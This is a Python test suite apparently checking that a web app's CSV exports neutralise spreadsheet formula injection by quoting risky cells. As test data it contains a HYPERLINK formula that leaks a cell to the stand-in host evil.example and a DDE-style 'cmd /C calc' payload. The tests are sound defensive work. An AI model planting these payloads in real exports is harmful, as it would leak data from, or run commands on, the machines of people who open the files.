"""Every CSV export goes through one writer: a name or message a spreadsheet would run as a formula is
written as text, numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime

import pytest

from opsview.common.csvfiles import csv_lines, safe_cell
from opsview.records.models import TimeEntry
from tests.conftest import signed_in
from tests.queue_support import failure, send

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PERIOD = "start=2026-11-01&end=2026-11-20"


def rows_of(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


@pytest.fixture
def hostile_names(northwind):
    """A client named like a formula and a project whose name starts with a tab, as a source may send."""
    northwind.client.name = FORMULA
    northwind.client.save()
    northwind.managed_project.name = "\t=1+1"
    northwind.managed_project.save()
    TimeEntry.objects.filter(project=northwind.managed_project).update(
        status="approved", approved_at=datetime(2026, 11, 5, tzinfo=UTC)
    )
    return northwind


def cells(rows):
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("value", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_cell_that_could_start_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value, written", [(-12, -12), (None, ""), ("plain", "plain"), ("a=b", "a=b")])
def test_numbers_and_plain_text_are_written_as_they_are(value, written):
    assert safe_cell(value) == written
    assert csv_lines().writerow([value, "end"]).strip() == f"{written},end"


def test_the_queue_export_quotes_formulas_in_names_and_messages(client, api, hostile_names, olivia):
    send(api, failure("TE-PR-1", "\tcmd|' /C calc'!A0"), failure("TE-2", "@SUM(1+1)*cmd", payload={"amount": "-5"}))
    rows = rows_of(signed_in(client, olivia).get("/queues/export.csv"))
    header, body = rows[0], rows[1:]

    by_id = {r[header.index("external_id")]: dict(zip(header, r, strict=True)) for r in body}
    assert by_id["TE-PR-1"]["client"] == "'" + FORMULA
    assert by_id["TE-PR-1"]["error_message"] == "'\tcmd|' /C calc'!A0"
    assert by_id["TE-2"]["error_message"] == "'@SUM(1+1)*cmd"
    assert by_id["TE-2"]["amount"] == "-5.00"  # a number, not text
    assert not [c for c in cells(body) if c[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("key, name", [("worst-clients", FORMULA), ("worst-projects", "\t=1+1")])
def test_the_dashboard_exports_quote_formulas_in_client_and_project_names(client, hostile_names, erin, key, name):
    response = signed_in(client, erin).get(f"/dashboards/executive/{key}.csv?{PERIOD}")

    assert response.status_code == 200
    rows = rows_of(response)
    assert "'" + name in cells(rows)
    assert not [c for c in cells(rows[1:]) if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_every_dashboard_export_goes_through_the_writer(client, hostile_names, erin):
    signed_in(client, erin)
    for key in ("aging", "wip-trend", "billing-lag", "sync", "worst-clients", "worst-projects"):
        rows = rows_of(client.get(f"/dashboards/executive/{key}.csv?{PERIOD}"))
        assert not [c for c in cells(rows) if c[:1] in ("=", "+", "@", "\t", "\r")], key
